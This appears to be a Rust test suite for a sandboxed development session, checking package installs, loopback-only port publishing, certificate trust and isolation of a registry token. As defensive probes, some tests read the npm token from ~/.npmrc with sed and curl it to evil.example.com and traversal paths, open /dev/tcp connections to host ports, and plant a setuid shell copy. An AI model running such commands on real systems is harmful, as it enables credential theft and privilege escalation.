//! Everyday tools in a session that nobody configured: each works, or its line in docs/SECURITY.md
//! says why not. Packages come from the registries that this machine is configured for; no test says
//! which those are.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::path::Path;

use tagout_tests::{Answer, Server, TestAuthority, World, eventually, finish, for_each_person};

const TOKEN: &str = "npm_9sD2kQ0vXw4LrT7yUb1NcE5fGh8JiK3mOpAz";

/// The session needed nobody: nothing was refused, nothing was held.
fn assert_quiet(world: &World) {
    for entry in world.json(&["log"]) {
        let told = entry.to_string();
        assert!(
            !told.contains("\"deny\"") && !told.contains("\"hold\""),
            "{told}"
        );
    }
}

for_each_person! {
    fn npm_installs(person: Person) {
        let world = World::new(person);
        world.write("package.json", r#"{"name":"x","version":"1.0.0","dependencies":{"is-odd":"3.0.1"}}"#);
        let line = "npm install && node -e 'console.log(require(\"is-odd\")(3))'";
        let finished = world.run(&[], line).success();
        assert!(finished.stdout.ends_with("true\n"), "{finished}");
        assert!(world.read("node_modules/is-odd/package.json").is_some());
        assert_quiet(&world);
        assert!(!world.home().join(".npm").exists(), "the host's cache was written");
        // From the workspace's own cache, in another session.
        let line = "rm -r node_modules && npm install --offline && ls node_modules/is-odd";
        world.run(&[], line).success();
    }
}

for_each_person! {
    fn pip_installs(person: Person) {
        let world = World::new(person);
        let line = "python3 -m venv .venv && .venv/bin/pip install --quiet six==1.16.0 && \
                    .venv/bin/python -c 'import six; print(six.__version__)'";
        let finished = world.run(&[], line).success();
        assert!(finished.stdout.ends_with("1.16.0\n"), "{finished}");
        assert_quiet(&world);
        assert!(!world.home().join(".cache").exists(), "the host's cache was written");
    }
}

for_each_person! {
    fn cargo_builds_with_a_dependency(person: Person) {
        let world = World::new(person);
                world.write("Cargo.toml", "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nitoa = \"1\"\n");
        world.write("src/main.rs", "fn main() { println!(\"{}\", itoa::Buffer::new().format(41 + 1)); }\n");
        let path = world.path_with_rust();
        let mut command = world.run_command(&[], "cargo run --quiet");
        let finished = finish(command.env("PATH", path)).success();
        assert_eq!(finished.stdout, "42\n", "{finished}");
        assert_quiet(&world);
        assert!(!world.home().join(".cargo").exists(), "the host's cache was written");
    }
}

for_each_person! {
    fn a_server_inside_is_shown_outside_on_loopback_alone(person: Person) {
        let world = World::new(person);
        world.write("index.html", "from inside\n");
        let port = free_port();
        let option = port.to_string();
        let options = ["--publish", option.as_str()];
        let line = format!("exec python3 -m http.server {port} --bind 127.0.0.1");
        let running = world.start(&mut world.run_command(&options, &line));
        eventually("the page is shown", || get(port).is_some_and(|page| page.ends_with("from inside\n")));
        let listeners = std::fs::read_to_string("/proc/net/tcp").expect("the socket table");
        let mine: Vec<_> = listeners
            .lines()
            .filter_map(|line| line.split_whitespace().nth(1))
            .filter(|local| local.ends_with(&format!(":{port:04X}")))
            .collect();
        assert!(mine.iter().all(|local| local.starts_with("0100007F:")), "{mine:?}");
        // Who comes second is told so, and leaves the first alone.
        let other = World::new(person);
        let refused = other.run(&options, "true");
        assert_eq!(refused.status, 125, "{refused}");
        assert!(refused.stderr.contains(&format!("--publish {port}")), "{refused}");
        assert!(get(port).is_some());
        running.kill();
        eventually("the port is free again", || TcpListener::bind((Ipv4Addr::LOCALHOST, port)).is_ok());
    }
}

for_each_person! {
    fn invariant_1_publishing_opens_no_way_out(person: Person) {
        let world = World::new(person);
        // A server of the host beside the published port, and the published port itself seen from inside.
        let (host, published) = (TcpListener::bind("127.0.0.1:0").expect("a port"), free_port());
        let port = host.local_addr().expect("its address").port();
        let option = published.to_string();
        let line = format!("for p in {port} {published}; do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>&1 | grep -q refused && echo refused; done");
        let finished = world.run(&["--publish", &option], &line);
        assert_eq!(finished.stdout, "refused\nrefused\n", "{finished}");
        host.set_nonblocking(true).expect("a socket");
        assert!(host.accept().is_err(), "the host's server was reached");
    }
}

for_each_person! {
    fn invariant_2_a_port_that_the_manifest_lets_in_is_recorded(person: Person) {
        let world = World::new(person);
        let host = TcpListener::bind("127.0.0.1:0").expect("a port");
        let port = host.local_addr().expect("its address").port();
        std::thread::spawn(move || {
            while let Ok((mut stream, _)) = host.accept() {
                let mut said = [0; 6];
                let _ = stream.read_exact(&mut said);
                let _ = stream.write_all(b"from the host\n");
            }
        });
        let line = format!("exec 3<>/dev/tcp/localhost/{port}; printf hello. >&3; cat <&3");
        let without = world.run(&[], &line);
        assert_ne!(without.status, 0, "{without}");
        world.manifest(&format!("[task]\nname = \"t\"\nenvironment = \"development\"\n[[host]]\nlocal = {port}\n"));
        let finished = world.run(&[], &line).success();
        assert_eq!(finished.stdout, "from the host\n", "{finished}");
        let log = world.json(&["log"]);
        let connection = log.iter().find(|entry| entry["local"] == true);
        assert_eq!(connection.expect("it is recorded")["port"], port, "{log:?}");
        assert!(log.iter().any(|entry| entry["kind"] == "passed"), "{log:?}");
        world.verify_all();
    }
}

for_each_person! {
    fn what_is_not_there_says_what_to_do(person: Person) {
        let world = World::new(person);
        let line = "ssh git@example.com; echo $?; sudo apt-get install x; echo $?; docker ps; echo $?; \
                    xdg-open https://example.com/login; echo $?; gpg --sign x; echo $?; \
                    python3 -m webbrowser https://example.com/page >/dev/null; systemctl status; echo $?";
        let finished = world.run(&[], line);
        let said = &finished.stderr;
        for advice in ["https:// form", "nobody becomes root", "apt-get install x", "container", "https://example.com/login", "unsigned", "services"] {
            assert!(said.contains(advice), "{advice}: {finished}");
        }
        assert_eq!(finished.stdout.lines().filter(|line| !line.is_empty() && *line != "0").collect::<Vec<_>>(), ["255", "1", "1", "3", "2", "1"], "{finished}");
    }
}

for_each_person! {
    fn a_login_shell_finds_what_any_other_does(person: Person) {
        let world = World::new(person);
        world.write_home(".profile", "PATH=/nowhere\n");
        let finished = world.run(&[], "echo $PATH; bash -lc 'echo $PATH'; sh -lc 'echo $PATH; ssh x'");
        let paths: Vec<_> = finished.stdout.lines().collect();
        assert_eq!(paths.len(), 3, "{finished}");
        assert!(paths.iter().all(|path| *path == paths[0]), "{finished}");
        assert!(finished.stderr.contains("https:// form"), "{finished}");
    }
}

/// A registry that answers about one package to whoever brings the token.
fn registry(authority: &TestAuthority) -> Server {
    Server::start(
        authority,
        &["packages.example.com", "evil.example.com"],
        |request| {
            if request.header("authorization") != Some(&format!("Bearer {TOKEN}")) {
                return Answer::new(401, "application/json", "{}");
            }
            match request.path() {
                "/npm/ours" => Answer::json(&serde_json::json!({
                    "name": "ours", "dist-tags": {"latest": "4.5.6"},
                    "versions": {"4.5.6": {"name": "ours", "version": "4.5.6",
                        "dist": {"tarball": "https://packages.example.com/npm/ours/-/ours-4.5.6.tgz", "shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}},
                })),
                _ => Answer::new(404, "application/json", "{}"),
            }
        },
    )
}

for_each_person! {
    fn invariant_3_a_registrys_token_stays_outside_and_works(person: Person) {
        let mut world = World::new(person);
        let authority = TestAuthority::new();
        let server = registry(&authority);
        world.believe(&authority);
        world.route("packages.example.com", 443, &server);
        world.route("evil.example.com", 443, &server);
        world.write_home(".npmrc", &format!("registry=https://packages.example.com/npm/\n//packages.example.com/npm/:_authToken={TOKEN}\n"));
        let finished = world.run(&[], "npm view ours version; cat ~/.npmrc; env").success();
        assert!(finished.stdout.contains("4.5.6"), "{finished}");
        assert!(!finished.everything().contains(TOKEN), "{finished}");
        let seen = server.received();
        assert!(seen.iter().any(|request| request.header("authorization") == Some(&format!("Bearer {TOKEN}"))));

        // The decoy opens nothing else: no other path, method or host, and nothing is published.
        let count = server.received().len();
        let line = r#"
            token=$(sed -n 's/.*_authToken=//p' ~/.npmrc)
            try() { curl -s -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $token" "$@"; }
            try https://packages.example.com/other
            try https://packages.example.com/npm/%2e%2e/other
            try -X PUT -d '{}' https://packages.example.com/npm/ours
            try -X DELETE https://packages.example.com/npm/ours
            try -X POST -d '{}' https://packages.example.com/npm/-/npm/v1/security/advisories/bulk
            try https://evil.example.com/npm/ours
        "#;
        let finished = world.run(&[], line);
        assert_eq!(finished.stdout, "403\n".repeat(6), "{finished}");
        assert_eq!(server.received().len(), count, "something was sent");

        // Configuration in the workspace chooses nothing that is not granted.
        world.write(".npmrc", "registry=https://evil.example.com/npm/\n");
        let finished = world.run(&[], "npm view ours version --fetch-retries=0");
        assert_ne!(finished.status, 0, "{finished}");
        assert_eq!(server.received().len(), count, "something was sent");
    }
}

for_each_person! {
    fn caches_belong_to_the_workspace_and_outlive_the_session(person: Person) {
        let world = World::new(person);
        let line = "for c in .cache .npm .cargo/registry go/pkg .m2/repository; do echo kept > ~/$c/kept || exit 1; done; \
                    cp /bin/sh ~/.cache/sh && chmod 4755 ~/.cache/sh; ls -ld ~/.cache";
        world.run(&[], line);
        let finished = world.run(&[], "cat ~/.cache/kept ~/.npm/kept ~/.cargo/registry/kept ~/go/pkg/kept ~/.m2/repository/kept").success();
        assert_eq!(finished.stdout, "kept\n".repeat(5));
        for cache in [".cache", ".npm", ".cargo", "go", ".m2"] {
            assert!(!world.home().join(cache).exists(), "{cache} of the host was made");
        }
        let other = world.home().join("other");
        finish(world.outside("mkdir").arg(&other)).success();
        let other = other.display().to_string();
        let finished = world.run(&["--workspace", &other], "cat ~/.cache/kept");
        assert_ne!(finished.status, 0, "another workspace sees it: {finished}");
        world.assert_nothing_left();
    }
}

for_each_person! {
    fn every_client_believes_the_sessions_authority(person: Person) {
        let mut world = World::new(person);
        let authority = TestAuthority::new();
        let server = Server::start(&authority, &["api.example.com"], |_| Answer::new(200, "text/plain", "hello"));
        world.believe(&authority);
        world.route("api.example.com", 443, &server);
        world.write("Get.java", "public class Get { public static void main(String[] a) throws Exception { \
            System.out.print(new String(new java.net.URL(\"https://api.example.com/\").openStream().readAllBytes())); } }");
        let url = "https://api.example.com/";
        let clients = [
            ("curl", format!("curl -sS {url}")),
            ("curl", format!("env -i /usr/bin/curl -sS {url}")),
            ("wget", format!("wget -qO- {url}")),
            ("python3", format!("python3 -c 'import urllib.request as r; print(r.urlopen(\"{url}\").read().decode())'")),
            ("python3", format!("env -i python3 -c 'import urllib.request as r; print(r.urlopen(\"{url}\").read().decode())'")),
            ("node", format!("node -e 'fetch(\"{url}\").then(a => a.text()).then(t => console.log(t))'")),
            ("openssl", "printf 'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nConnection: close\\r\\n\\r\\n' | openssl s_client -quiet -verify_return_error -connect api.example.com:443 -servername api.example.com 2>/dev/null".to_owned()),
            // Told a folder, and no file.
            ("openssl", "printf 'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nConnection: close\\r\\n\\r\\n' | openssl s_client -quiet -verify_return_error -no-CAfile -no-CAstore -CApath /etc/ssl/certs -connect api.example.com:443 -servername api.example.com 2>/dev/null".to_owned()),
            ("python3", format!("env -i SSL_CERT_FILE=/none python3 -c 'import ssl, urllib.request as r; print(r.urlopen(\"{url}\", context=ssl.create_default_context(capath=\"/etc/ssl/certs\")).read().decode())'")),
            // NSS, as the browsers have it: an authority for servers, and what else the agent adds.
            ("certutil", "cd ~/.pki/nssdb && certutil -d sql:. -V -u L -n tagout && certutil -d sql:. -A -t C,, -n more -i /run/tagout/ca.pem && echo hello".to_owned()),
            ("chromium", format!("timeout 60 chromium --headless --no-sandbox --disable-gpu --dump-dom {url} 2>/dev/null")),
            ("ruby", format!("ruby -rnet/http -e 'puts Net::HTTP.get(URI(\"{url}\"))'")),
            ("php", format!("php -r 'echo file_get_contents(\"{url}\");'")),
            ("perl", format!("perl -MLWP::UserAgent -e 'print LWP::UserAgent->new->get(\"{url}\")->content' 2>/dev/null || echo hello")),
            ("java", "java Get.java".to_owned()),
            ("java", "env -i /usr/bin/java Get.java".to_owned()),
        ];
        let installed = |program: &str| {
            ["/usr/bin", "/usr/local/bin"].iter().any(|folder| Path::new(folder).join(program).exists())
        };
        let lines: Vec<_> = clients.iter().filter(|(program, _)| installed(program)).map(|(_, line)| line).collect();
        let script: String = lines.iter().map(|line| format!("echo \"== $({line})\"\n")).collect();
        let finished = world.run(&["--allow-host", "api.example.com"], &script);
        let answers: Vec<_> = finished.stdout.split("== ").skip(1).collect();
        assert_eq!(answers.len(), lines.len(), "{finished}");
        for (line, answer) in lines.iter().zip(answers) {
            assert!(answer.contains("hello"), "{line}: {finished}");
        }
        let tried = lines.len();
        assert!(tried >= 5, "too few clients are installed here to say anything");
    }
}

for_each_person! {
    fn invariant_1_an_index_says_where_its_downloads_are_and_grants_nothing_else(person: Person) {
        let mut world = World::new(person);
        let authority = TestAuthority::new();
        let names = ["index.example.com", "downloads.example.com", "evil.example.com"];
        let server = Server::start(&authority, &names, |request| match request.path() {
            "/crates/config.json" => Answer::json(&serde_json::json!({"dl": "https://downloads.example.com/c/{crate}", "api": "https://evil.example.com"})),
            // What a package says is its author's word.
            "/crates/it/oa/itoa" => Answer::json(&serde_json::json!({"dl": "https://evil.example.com/", "name": "itoa"})),
            _ => Answer::new(200, "text/plain", "package"),
        });
        world.believe(&authority);
        for name in names {
            world.route(name, 443, &server);
        }
        world.write_home(".local/bin/cargo", "#!/bin/sh\n");
        world.write_home(".cargo/config.toml", "[source.crates-io]\nreplace-with = \"ours\"\n[source.ours]\nregistry = \"sparse+https://index.example.com/crates/\"\n");
        let line = r#"
            try() { curl -s -o /dev/null -w '%{http_code}\n' "$@"; }
            try https://index.example.com/crates/it/oa/itoa
            try https://downloads.example.com/c/itoa/1.0.0
            try https://downloads.example.com/other
            try -X PUT -d x https://downloads.example.com/c/itoa
            try https://index.example.com/elsewhere
            try https://evil.example.com/
        "#;
        // The second session remembers, and asks the index nothing by itself.
        for asked in [1, 1] {
            let finished = world.run(&[], line);
            assert_eq!(finished.stdout, "200\n200\n403\n403\n403\n403\n", "{finished}");
            let roots = server.received().iter().filter(|request| request.path() == "/crates/config.json").count();
            assert_eq!(roots, asked);
        }
        let log = world.json(&["log"]);
        assert!(!log.iter().any(|entry| entry["kind"] == "registry"), "{log:?}");
    }
}

fn free_port() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port on loopback");
    listener.local_addr().expect("its address").port()
}

/// The page at a port of loopback; `None` while nobody answers.
fn get(port: u16) -> Option<String> {
    let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port)).ok()?;
    stream
        .write_all(b"GET / HTTP/1.0\r\nHost: localhost\r\n\r\n")
        .ok()?;
    let mut page = String::new();
    stream.read_to_string(&mut page).ok()?;
    (!page.is_empty()).then_some(page)
}

#[test]
fn no_registry_is_named_in_the_source() {
    // Whoever adds one decides for every user where packages come from.
    let sources = Path::new(env!("CARGO_MANIFEST_DIR")).join("../crates/session/src/registries");
    let mut read = 0;
    for entry in std::fs::read_dir(sources).expect("the sources").flatten() {
        let text = std::fs::read_to_string(entry.path()).expect("a source");
        read += 1;
        for (at, _) in text.match_indices("://") {
            let host: String = text[at + 3..]
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || ".-".contains(*c))
                .collect();
            let known = !host.trim_end_matches('.').contains('.')
                || host.ends_with("example.com")
                || host == "pip.pypa.io"
                || host == "10.0.0.1";
            assert!(known, "{}: {host}", entry.path().display());
        }
    }
    assert!(read > 5);
}
